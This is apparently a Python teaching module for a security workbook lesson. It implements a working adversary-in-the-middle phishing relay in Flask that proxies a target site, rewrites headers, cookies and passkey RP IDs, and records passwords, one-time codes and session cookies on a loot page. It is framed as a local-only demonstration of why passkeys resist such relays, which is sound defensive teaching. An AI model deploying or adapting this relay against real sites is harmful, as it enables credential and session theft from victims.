"""A phishing relay (an adversary in the middle), harmless and local, for lesson 08.

Real phishing kits (Evilginx, Modlishka, EvilProxy...) do not copy a site's pages: they stand
between the victim and the real site on a look-alike host name, pass every request on, pass
every answer back, and keep what goes through: the password, the code, and above all the
session cookie the real site sets once both are right. The victim sees the real pages and
logs in for real; the attacker then uses the copied cookie.

``create_relay`` builds such a relay as a small Flask app, for your own machine only: it
talks to one target you name (a stage app), and shows what it kept at ``/relay-loot``::

    relay = create_relay("http://localhost:5007", relay_origin="http://127.0.0.1:8007")
    relay.run(port=8007)                       # then log in at http://127.0.0.1:8007/
    relay.loot.cookies                         # {"stage7_session": "..."}: the attacker's prize

``target`` may also be a WSGI app (a stage app made with ``make_app``), which the tests and
the lesson use without any server.

What it changes on the way, as the kits do: the ``Host`` of each request, the ``Origin`` and
``Referer`` headers (so the target's CSRF checks see its own origin), ``Location`` headers and
absolute links back to the relay's own address, and the ``Domain`` of cookies. With
``rewrite_rp_id=True`` it also puts its own host name as the RP ID into passkey options,
the only way a relay could get a browser to hand it any passkey at all (it has none there).

It cannot change what the browser writes into ``clientDataJSON`` (the page's real origin),
nor which passkeys the browser offers (those of the RP ID only). That is the whole point.
"""
import html
import json
from dataclasses import dataclass, field
from urllib.parse import parse_qsl, urlsplit

from flask import Flask, Response, request

# Not passed on: they describe one connection, not the message (RFC 9110 §7.6.1), or are recomputed.
HOP_BY_HOP = {"connection", "keep-alive", "proxy-authenticate", "proxy-authorization", "te", "trailer",
              "transfer-encoding", "upgrade", "content-length", "host", "accept-encoding", "content-encoding"}
LOOT_PATH = "/relay-loot"
METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"]


@dataclass
class Loot:
    """What the relay saw go past."""
    forms: list = field(default_factory=list)        # [{"path": ..., "fields": {...}}], every form sent
    json_bodies: list = field(default_factory=list)  # [{"path": ..., "body": ...}], every JSON body sent
    cookies: dict = field(default_factory=dict)      # {name: value}: the last value the target set for each

    def as_dict(self):
        return {"forms": self.forms, "json_bodies": self.json_bodies, "cookies": self.cookies}


def _origin(url):
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


def _forward_to_wsgi(app, target_origin):
    from werkzeug.test import Client

    client = Client(app, use_cookies=False)  # the victim's cookies travel in the Cookie header

    def send(method, path, query, headers, body):
        headers = {name: value for name, value in headers.items() if name != "Host"}  # base_url sets it
        response = client.open(path, base_url=target_origin, method=method, query_string=query,
                               headers=headers, data=body)
        return response.status_code, list(response.headers.items()), response.get_data()
    return send


def _forward_over_http(target_origin):
    import requests

    def send(method, path, query, headers, body):
        url = target_origin + path + (f"?{query.decode('latin-1')}" if query else "")
        response = requests.request(method, url, headers=headers, data=body, allow_redirects=False, timeout=30)
        # Every Set-Cookie on its own (requests joins repeated headers with commas).
        pairs = [(name, value) for name, value in response.raw.headers.items() if name.lower() != "set-cookie"]
        pairs += [("Set-Cookie", value) for value in response.raw.headers.getlist("Set-Cookie")]
        return response.status_code, pairs, response.content
    return send


def create_relay(target, target_origin=None, relay_origin="http://127.0.0.1:8000", rewrite_rp_id=False):
    """A Flask app that relays every request to ``target`` (a base URL or a WSGI app) and keeps its loot.

    ``target_origin``: the target's address as its users' browsers know it (default: ``target``
    itself, when that is a URL). ``relay_origin``: the relay's own, the look-alike address.
    """
    if isinstance(target, str):
        target_origin = target_origin or _origin(target)
        send = _forward_over_http(_origin(target))
    else:
        if not target_origin:
            raise ValueError("A WSGI target needs its target_origin, e.g. http://localhost:5008")
        send = _forward_to_wsgi(target, target_origin)
    target_origin, relay_origin = _origin(target_origin), _origin(relay_origin)
    target_host, relay_host = urlsplit(target_origin).netloc, urlsplit(relay_origin).netloc
    relay_hostname = urlsplit(relay_origin).hostname

    app = Flask(__name__, static_folder=None)  # every path is the target's, /static/ included
    app.loot = Loot()

    @app.get(LOOT_PATH)
    def show_loot():
        if request.args.get("format") == "json":
            return app.loot.as_dict()
        rows = "".join(f"<li><code>{html.escape(json.dumps(item))}</code></li>"
                       for item in app.loot.forms + app.loot.json_bodies)
        cookies = "".join(f"<li><code>{html.escape(name)}={html.escape(value)}</code></li>"
                          for name, value in app.loot.cookies.items())
        return (f"<!doctype html><title>Relay loot</title><h1>What the relay kept</h1>"
                f"<h2>Session cookies</h2><ul>{cookies}</ul><h2>Everything typed</h2><ol>{rows}</ol>")

    @app.route("/", defaults={"path": ""}, methods=METHODS)
    @app.route("/<path:path>", methods=METHODS)
    def relay(path):
        body = request.get_data()
        keep_request(app.loot, request, body)
        headers = {name: value for name, value in request.headers.items() if name.lower() not in HOP_BY_HOP}
        headers["Host"] = target_host
        if "Origin" in headers:
            headers["Origin"] = target_origin
        if "Referer" in headers:
            headers["Referer"] = headers["Referer"].replace(relay_origin, target_origin, 1)
        status, response_headers, content = send(request.method, "/" + path, request.query_string, headers, body)

        kept = []
        for name, value in response_headers:
            lower = name.lower()
            if lower in HOP_BY_HOP or lower == "strict-transport-security":
                continue
            if lower == "location":
                value = value.replace(target_origin, relay_origin, 1)
            if lower == "set-cookie":
                keep_cookie(app.loot, value)
                value = "; ".join(part for part in value.split(";") if not part.strip().lower().startswith("domain="))
            kept.append((name, value))
        answer = Response(status=status, headers=kept)
        mimetype = answer.mimetype or ""
        if mimetype == "application/json" and rewrite_rp_id:
            content = own_rp_id(content, relay_hostname)
        if mimetype.startswith("text/") or mimetype == "application/json":
            content = content.replace(target_origin.encode(), relay_origin.encode()) \
                             .replace(f"//{target_host}/".encode(), f"//{relay_host}/".encode())
        answer.set_data(content)
        return answer

    return app


def keep_request(loot, request, body):
    """Note what the victim sent: form fields (password, code, recovery code...) and JSON bodies."""
    if not body:
        return
    if request.mimetype == "application/x-www-form-urlencoded":
        fields = dict(parse_qsl(body.decode("utf-8", "replace"), keep_blank_values=True))
        loot.forms.append({"path": request.path, "fields": fields})
    elif request.mimetype == "application/json":
        try:
            loot.json_bodies.append({"path": request.path, "body": json.loads(body)})
        except ValueError:
            pass


def keep_cookie(loot, header):
    """Note a cookie the target sets: its name and value (what the attacker needs), from ``name=value; ...``."""
    name, _, value = header.split(";", 1)[0].partition("=")
    loot.cookies[name.strip()] = value.strip().strip('"')


def own_rp_id(content, hostname):
    """Passkey options with the relay's own host name as the RP ID."""
    try:
        options = json.loads(content)
    except ValueError:
        return content
    if isinstance(options, dict):
        if "rpId" in options:
            options["rpId"] = hostname
        if isinstance(options.get("rp"), dict):
            options["rp"]["id"] = hostname
    return json.dumps(options).encode()


def main(argv=None):
    """``python -m workbook.relay http://localhost:5007 --port 8007``: the relay in front of a stage you run."""
    import argparse

    parser = argparse.ArgumentParser(prog="python -m workbook.relay", description=__doc__.splitlines()[0])
    parser.add_argument("target", help="the stage app's address, e.g. http://localhost:5007")
    parser.add_argument("--port", type=int, default=8000, help="the relay's own port, on 127.0.0.1 (default 8000)")
    parser.add_argument("--rewrite-rp-id", action="store_true", help="put the relay's host as RP ID in passkey options")
    args = parser.parse_args(argv)
    relay_origin = f"http://127.0.0.1:{args.port}"
    app = create_relay(args.target, relay_origin=relay_origin, rewrite_rp_id=args.rewrite_rp_id)
    print(f"The look-alike site: {relay_origin}/ (everything goes on to {args.target}). "
          f"What it keeps: {relay_origin}{LOOT_PATH}", flush=True)
    app.run(host="127.0.0.1", port=args.port)  # no debugger: never debug=True


if __name__ == "__main__":
    main()
